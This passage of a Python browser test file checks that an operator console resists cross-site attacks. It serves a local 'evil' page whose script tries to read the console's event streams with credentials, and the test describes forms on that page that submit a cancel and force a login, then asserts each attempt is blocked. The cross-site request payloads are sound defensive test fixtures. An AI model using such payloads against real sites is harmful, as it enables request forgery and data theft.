  <input name="next" value="/">
</form>
<script>
window.results = {{}};
fetch("{console}/runs/events", {{credentials: "include"}})
  .then(r => r.text()).then(t => results.fetch = "read: " + t.slice(0, 80))
  .catch(() => results.fetch = "blocked");
const source = new EventSource("{console}/runs/{run_id}/events", {{withCredentials: true}});
source.addEventListener("replace", () => results.sse = "read");
source.addEventListener("error", () => {{
  results.sse = results.sse || "blocked";
  source.close();
}});
</script>
</body></html>"""


@asynccontextmanager
async def another_site(html: str) -> AsyncIterator[str]:
    """A web server of another site (`localhost`, another port: another origin and site than
    the console's `127.0.0.1`) answering every request with `html`."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        body = html.encode()
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
            + f"Content-Length: {len(body)}\r\n\r\n".encode()
            + body
        )
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    try:
        yield f"http://localhost:{port}/cats.html"
    finally:
        server.close()


@needs_chromium
@pytest.mark.timeout(300)
async def test_another_sites_page_cannot_act_read_sign_in_or_frame(
    dev_client: Client, console: ConsoleServer, browser: BrowserContext, tmp_path: Path
) -> None:
    """The operator, signed in, visits another site's page: its form posting a cancel, its
    form signing the browser in with a token of its choosing, its scripts reading the runs'
    event streams, and its frame of a run's page all come to nothing; the run goes on."""
    async with provider_world(dev_client, "local", tmp_path, "console") as (queue, _, runs):
        spec = runs_spec(new_run_id("c-xsite"), tmp_path, "sit")
        runs.append(spec.run_id)
        await start_in_state(dev_client, queue, spec, "running")
        operator = await sign_in(browser, console, console.operator_token)
        html = EVIL_PAGE.format(
            console=console.url, run_id=spec.run_id, read_token=console.read_token
        )
        async with another_site(html) as evil_url:
            evil = await browser.new_page()
            await evil.goto(evil_url)
            await evil.wait_for_function(
                "window.results.fetch && window.results.sse", timeout=60_000
            )
            results = await evil.evaluate("window.results")
            assert results == {"fetch": "blocked", "sse": "blocked"}
            # The frame holds no page of the console (frame-ancestors 'none', X-Frame-Options).
            framed = evil.frame_locator("#framed")
            # (A frame of the site's own is read: the check below can see a framed page.)
            await expect(evil.frame_locator("#own").locator("h1")).to_have_text(
                "cute cats", timeout=UI_MS
            )
            assert await framed.locator("text=overnight").count() == 0
            assert await framed.locator(f"text={spec.run_id}").count() == 0

            async with evil.expect_response(f"{console.url}/runs/{spec.run_id}/cancel") as sent:
                await evil.evaluate("document.getElementById('cancel').submit()")
            assert (await sent.value).status in (401, 403)

            again = await browser.new_page()
            await again.goto(evil_url)
            async with again.expect_response(f"{console.url}/login") as signed:
                await again.evaluate("document.getElementById('login').submit()")
            assert (await signed.value).status == 403

        # The browser is still the operator's (no session of the other site's choosing), and
        # the run was not cancelled.
        await operator.goto(f"{console.url}/")
        await expect(operator.locator("header .who")).to_contain_text("(operator)", timeout=UI_MS)
        status = await api.get_status(dev_client, spec.run_id)
        assert status.state == "running"
